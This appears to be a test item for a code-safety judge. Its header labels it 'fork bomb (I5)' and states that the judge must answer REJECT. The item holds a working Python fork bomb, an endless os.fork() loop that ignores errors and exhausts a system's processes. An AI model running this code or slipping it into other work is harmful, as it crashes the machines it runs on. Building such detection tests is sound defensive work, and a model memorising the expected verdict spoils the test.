# TECHNIQUE: fork bomb (I5)
# ATTEMPTS: takes every process there is.
# JUDGE MUST ANSWER: REJECT
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
